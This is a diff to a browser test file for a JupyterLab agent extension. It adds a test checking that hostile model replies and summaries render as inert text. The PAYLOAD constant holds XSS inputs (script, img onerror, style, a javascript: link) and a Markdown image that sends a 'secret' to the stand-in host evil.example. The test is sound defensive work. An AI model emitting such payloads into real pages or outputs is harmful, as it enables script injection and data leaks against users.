@@ -7,7 +7,8 @@ the reply render; a slow first token shows a status line that goes when the repl
 starts; the panel lists the sessions newest first, shows the held session in use with
 Resume disabled, and Details, Resume, Archive and Delete work by clicking. Saving the
 notebook stores widget state that holds no session the panel does not show. Screenshots
-of both themes and a narrow window are saved under ``tests/browser/artifacts/``.
+of both themes and a narrow window are saved under ``tests/browser/artifacts/``. A third
+notebook gets a hostile reply and summary: nothing in them runs or is fetched.
 """
 
 from __future__ import annotations
@@ -81,9 +82,10 @@ def shot(page: Any, name: str) -> Path:
     return path
 
 
-def start_all(page: Any, lab: Lab, name: str) -> None:
-    """Open a notebook, wait for its kernel, and run all its cells."""
-    page.goto(lab.open_url(name))
+def start_all(page: Any, lab: Lab, name: str, *, fresh: bool = False) -> None:
+    """Open a notebook, wait for its kernel, and run all its cells (``fresh``: in a reset
+    workspace, without the notebooks an earlier test left open)."""
+    page.goto(lab.open_url(name) + ("&reset" if fresh else ""))
     page.wait_for_selector(".jp-Notebook .jp-Cell")
     page.get_by_text(re.compile(r"Python 3 \(ipykernel\) \| Idle")).wait_for(timeout=120_000)
     page.get_by_role("menuitem", name="Run", exact=True).click()
@@ -226,3 +228,73 @@ def test_a_notebook_session_in_jupyterlab(lab: Lab, page: Any) -> None:
     page.set_viewport_size({"width": 640, "height": 900})
     page.wait_for_timeout(500)
     shot(page, "narrow-dark")
+
+
+#: A host the page must never contact (what a remote Markdown image would leak to).
+EVIL = "evil.example"
+PAYLOAD = ("Look: <script>window.pwned = 'script'</script> "
+           "<img src=x onerror=\"window.pwned = 'img'\"> "
+           "<style>.jp-Notebook { display: none }</style> "
+           f"![chart](https://{EVIL}/leak.png?d=secret) [run](javascript:window.pwned='link') "
+           "and \\(x\\) as typed.")
+
+HOSTILE = [
+    "%load_ext jupyter_agent",
+    "from jupyter_agent.testing import ScriptedModelServer\n"
+    f"payload = {PAYLOAD!r}\n"
+    "server = ScriptedModelServer([{'text': payload}]).start()\n"
+    "%config AgentMagics.base_url = server.base_url",
+    "%agent_new --title Hostile\n%agent show me",
+    f"%agent_summary {PAYLOAD}",
+    "hostile = get_ipython().magics_manager.registry['AgentMagics'].controller"
+    ".active_session_id",
+    "%agent_new --title Other",
+    "%agent_resume {hostile}",
+    "%agent_sessions",
+    "print('HOSTILE' + ' DONE')",
+]
+
+
+def test_text_from_the_model_and_from_files_stays_inert(lab: Lab, page: Any) -> None:
+    """A scripted reply and a stored summary carrying <script>, <img onerror>, <style>, a
+    javascript: link and a remote Markdown image: shown as text (the image as a link),
+    nothing runs, nothing is fetched, \\(x\\) shows as typed."""
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    lab.write_notebook("hostile.ipynb", HOSTILE)
+    start_all(page, lab, "hostile.ipynb", fresh=True)
+    page.wait_for_selector("text=HOSTILE DONE", state="attached", timeout=120_000)
+
+    def leaked() -> list[str]:  # the remote image, or the <img src=x> of the payload
+        return [url for url in requests if EVIL in url or url.split("?")[0].endswith("/x")]
+
+    assert page.evaluate("() => window.pwned") is None and leaked() == []
+
+    reply = page.locator(".jp-RenderedMarkdown", has_text="Look:").first
+    text = reply.inner_text()
+    assert "<script>window.pwned = 'script'</script>" in text  # shown as typed
+    assert "<img src=x onerror=\"window.pwned = 'img'\">" in text
+    assert "\\(x\\) as typed." in text and reply.locator("mjx-container").count() == 0
+    assert reply.locator("img, script, style").count() == 0
+    image = reply.get_by_role("link", name="image: chart")
+    assert image.get_attribute("href") == f"https://{EVIL}/leak.png?d=secret"  # a link only
+    assert reply.locator("a[href^='javascript']").count() == 0
+
+    recap = page.locator(".jp-RenderedMarkdown", has_text="Resumed: Hostile").first
+    assert "<img src=x onerror=" in recap.inner_text()
+    assert recap.locator("img, script, style").count() == 0
+    assert recap.get_by_role("link", name="image: chart").count() == 1
+
+    row(page, "Hostile").get_by_role("button", name="Details").click()
+    details = page.locator(".widget-vbox", has_text="Details — Hostile").last
+    details.get_by_text("Look: <script>").first.wait_for()
+    assert details.locator("img, script, mjx-container").count() == 0
+    assert "\\(x\\) as typed." in details.inner_text()
+    assert details.locator(f"a[href^='https://{EVIL}']").first.inner_text() == "image: chart"
+    details.scroll_into_view_if_needed()
+    shot(page, "hostile-details")
+
+    page.wait_for_timeout(1000)  # anything the payload started has had its chance
+    assert page.evaluate("() => window.pwned") is None
+    assert page.locator(".jp-Notebook").first.is_visible()  # the payload's style: not applied
+    assert leaked() == []
